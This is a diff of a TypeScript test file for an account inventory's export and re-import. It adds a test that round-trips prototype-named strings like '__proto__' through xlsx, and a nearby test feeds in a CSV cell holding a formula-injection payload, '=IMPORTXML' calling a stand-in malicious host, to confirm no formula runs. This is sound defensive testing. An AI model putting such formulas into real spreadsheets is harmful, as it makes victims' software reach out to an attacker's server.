@@ -185,6 +185,15 @@ describe('export → import into an empty plan gives the same accounts (property
     expect(readable(await target.call('inventory.get'))).toEqual(readable(await source.call('inventory.get')));
   });
 
+  it('round-trips texts named like Object.prototype members through xlsx (the writer indexes shared strings in a plain object)', async () => {
+    const names = ['toString', 'constructor', '__proto__', 'valueOf', "'toString", "''hasOwnProperty", 'toStringx'];
+    const generated = fc.sample(inventoryArbitrary, { numRuns: 1, seed: 11 })[0]!;
+    const accounts = names.map((name, index) => ({ ...generated.accounts[0]!, handle: `cuenta${index}`, displayName: name, notes: name, audience: name }));
+    const source = await engineWith({ ...generated, accounts });
+    const original = await source.call('inventory.get');
+    for (const lang of ['es', 'en'] as const) expect(readable(await exportAndReimport(source, 'xlsx', lang))).toEqual(readable(original));
+  });
+
   it('keeps a title row typed by hand in the file it re-imports (no formula is ever run)', async () => {
     const engine = await freshEngine();
     const bytes = utf8('Plataforma;Usuario;Notas\nX;@a;"=IMPORTXML(""http://mal.example"")"\n');
